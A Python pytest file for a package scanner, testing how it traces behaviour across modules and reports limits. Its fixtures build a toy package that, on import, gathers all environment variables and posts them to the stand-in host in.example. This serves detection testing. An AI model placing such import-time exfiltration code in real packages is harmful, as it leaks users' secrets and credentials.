"""What a package's modules do together, seen through a look at the whole archive: where the following ends is said."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlsupply.evidence import gathered
from mlsupply.evidence.linking import ROUNDS
from mlsupply.evidence.package import PackageFacts
from mlsupply.model import Reason
from tests.looking import looked

READS = "import os\ndef gather():\n    return dict(os.environ)\n"
SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
STARTS = "from .read import gather\nfrom .send import push\npush(gather())\n"
PADDING = "# a page of remarks\n" * 8_000


def sends(facts: PackageFacts) -> list[str]:
    return [fact.source for fact in facts.code if fact.behaviour == "sends"]


def test_padding_takes_no_file_out_of_what_its_neighbours_know(tmp_path: Path) -> None:
    facts = looked(tmp_path, {"__init__": PADDING + STARTS, "read": PADDING + READS, "send": SENDS})
    assert sends(facts) == ["environment"]
    assert facts.gaps == ()


def test_more_code_than_is_kept_side_by_side_is_a_gap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gathered, "_MAX_SKIPPED", 1000)
    facts = looked(tmp_path, {"__init__": PADDING + STARTS, "read": READS, "send": SENDS})
    (gap,) = facts.gaps
    assert gap.reason is Reason.LIMIT
    assert "1 file, this one first, looked at without neighbours" in gap.detail
    assert gap.place is not None
    assert gap.place.member == "demo/__init__.py"


def test_a_chain_that_is_longer_than_is_followed_is_a_gap(tmp_path: Path) -> None:
    files = {"read": READS, "send": SENDS, "r0": "from .send import push\ndef go0(data):\n    push(data)\n"}
    last = 2 * ROUNDS
    for n in range(1, last + 1):
        files[f"r{n}"] = f"from .r{n - 1} import go{n - 1}\ndef go{n}(data):\n    go{n - 1}(data)\n"
    files["__init__"] = f"from .read import gather\nfrom .r{last} import go{last}\ngo{last}(gather())\n"
    (gap,) = looked(tmp_path, files).gaps
    assert gap.reason is Reason.LIMIT
    assert "1 file, this one first, should be looked at again" in gap.detail
